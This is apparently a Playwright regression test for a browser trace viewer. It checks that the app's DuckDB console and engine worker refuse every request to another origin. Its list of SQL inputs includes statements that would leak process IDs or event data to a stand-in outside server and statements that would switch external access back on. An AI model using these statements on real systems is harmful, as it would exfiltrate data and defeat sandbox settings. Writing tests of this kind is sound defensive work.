// Regression test for the hardening issue's first point: the page's <meta> CSP did not reach the engine
// worker, and SQL in the console (read_csv of a URL, ATTACH, INSTALL/LOAD httpfs, a URL built from the
// trace's pids with SET VARIABLE) made the browser attempt requests to other origins. Here a canary server
// on another loopback port stands for "outside": it must receive nothing, Playwright must see no request
// leave the origin, every statement must show DuckDB's refusal, and the worker itself must refuse
// fetch / XMLHttpRequest / WebSocket / EventSource / importScripts to another origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { startSite, openBrowser, blockOtherOrigins, fixture, openPanel } from './harness.mjs';

let site, browser, context, outside, canary, canaryUrl;
const hits = [];

before(async () => {
  site = await startSite();
  canary = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('a,b\n1,2\n');
  });
  await new Promise((r) => canary.listen(0, '127.0.0.1', r));
  canaryUrl = `http://127.0.0.1:${canary.address().port}`;
  ({ browser, context } = await openBrowser());
  // Requests to the canary are let through (so a leak would show as a hit); every other origin is failed and recorded.
  outside = await blockOtherOrigins(context, site.origin, [canaryUrl]);
});
after(async () => {
  await browser?.close();
  await site?.close();
  await new Promise((r) => canary?.close(r));
});

test('SQL in the console cannot name a URL: every way is refused and nothing leaves the origin', async () => {
  const page = await context.newPage();
  const violations = [];
  page.on('console', (m) => /Content.Security.Policy|Refused to/i.test(m.text()) && violations.push(m.text()));
  await page.goto(site.origin + '/');
  await page.getByTestId('engine-status').filter({ hasText: /ready/ }).waitFor({ timeout: 60_000 });
  await page.getByTestId('file-input').setInputFiles(fixture('archives/demo.zip'));
  await page.getByTestId('process-row').first().waitFor({ timeout: 60_000 });
  await openPanel(page, 'sql');
  const u = canaryUrl;
  const statements = [
    `SELECT * FROM read_csv('${u}/read_csv.csv')`,
    `SELECT * FROM read_csv_auto('${u}/auto.csv')`,
    `SELECT * FROM '${u}/scan.csv'`,
    `SELECT * FROM read_text('${u}/text')`,
    `SELECT * FROM read_blob('${u}/blob')`,
    `SELECT * FROM glob('${u}/glob*')`,
    `SELECT * FROM sniff_csv('${u}/sniff.csv')`,
    `SELECT * FROM read_parquet('${u}/x.parquet')`,
    `SELECT * FROM read_json('${u}/x.json')`,
    `ATTACH '${u}/db.duckdb' AS remote`,
    `ATTACH 'md:'`,
    `INSTALL httpfs; LOAD httpfs`,
    `LOAD '${u}/x.duckdb_extension'`,
    `SET VARIABLE u = '${u}/x.csv?d=' || (SELECT string_agg(DISTINCT pid, '_') FROM events); SELECT * FROM read_csv(getvariable('u'))`,
    `COPY (SELECT pid FROM events) TO '${u}/out.csv'`,
    `SET enable_external_access = true`,
    `SET lock_configuration = false`,
  ];
  for (const sql of statements) {
    await page.getByTestId('sql-input').fill(sql);
    await page.getByTestId('sql-run').click();
    const error = page.getByTestId('sql-error');
    await error.waitFor({ timeout: 30_000 });
    assert.match(await error.innerText(), /disabled|locked|not in the catalog|Permission|Catalog Error|read-only/, sql);
    // The next statement's error must be its own: clear this one by running a harmless query.
    await page.getByTestId('sql-input').fill('SELECT 1 AS ok');
    await page.getByTestId('sql-run').click();
    await page.getByTestId('sql-rowcount').filter({ hasText: '1 row' }).waitFor({ timeout: 30_000 });
  }
  await page.waitForTimeout(300);
  assert.deepEqual(hits, [], 'the canary server received requests');
  assert.deepEqual(outside, [], 'requests left the origin');
  assert.deepEqual(violations, []);
  await page.close();
});

test('the engine worker refuses every request API to another origin, and still reaches its own', async () => {
  const page = await context.newPage();
  await page.goto(site.origin + '/');
  await page.getByTestId('engine-status').filter({ hasText: /ready/ }).waitFor({ timeout: 60_000 });
  const worker = page.workers().find((w) => /worker/.test(w.url()));
  assert.ok(worker, 'the engine worker is running');
  const results = await worker.evaluate(async (u) => {
    const attempt = async (name, fn) => {
      try {
        await fn();
        return `${name}: allowed`;
      } catch (e) {
        return `${name}: ${e.name}: ${e.message}`;
      }
    };
    return [
      await attempt('fetch', () => fetch(`${u}/fetch`)),
      await attempt('fetch Request', () => fetch(new Request(`${u}/request`))),
      await attempt('XMLHttpRequest', () => {
        const x = new XMLHttpRequest();
        x.open('GET', `${u}/xhr`, false);
        x.send();
      }),
      await attempt('WebSocket', () => new WebSocket(u.replace('http', 'ws') + '/ws')),
      await attempt('EventSource', () => new EventSource(`${u}/sse`)),
      await attempt('own origin', async () => {
        const r = await fetch(new URL('/index.html', self.location.href));
        if (!r.ok) throw new Error(`status ${r.status}`);
      }),
    ];
  }, canaryUrl);
  for (const r of results.slice(0, 5)) assert.match(r, /SecurityError: .* refused: the otpscope engine never sends a request outside/, r);
  assert.equal(results[5], 'own origin: allowed');
  assert.deepEqual(hits, []);
  assert.deepEqual(outside, []);
  await page.close();
});

test('the site is served with its Content-Security-Policy as a header, the worker script included', async () => {
  const page = await context.newPage();
  const policies = new Map();
  page.on('response', (r) => policies.set(r.url(), r.headers()['content-security-policy']));
  await page.goto(site.origin + '/');
  await page.getByTestId('engine-status').filter({ hasText: /ready/ }).waitFor({ timeout: 60_000 });
  const workerScript = [...policies.keys()].find((k) => /\/assets\/worker-[^/]*\.js$/.test(k));
  assert.ok(workerScript, `worker script among ${[...policies.keys()].join(', ')}`);
  assert.match(policies.get(workerScript) ?? '', /default-src 'self'.*connect-src 'self' blob: data:/);
  await page.close();
});
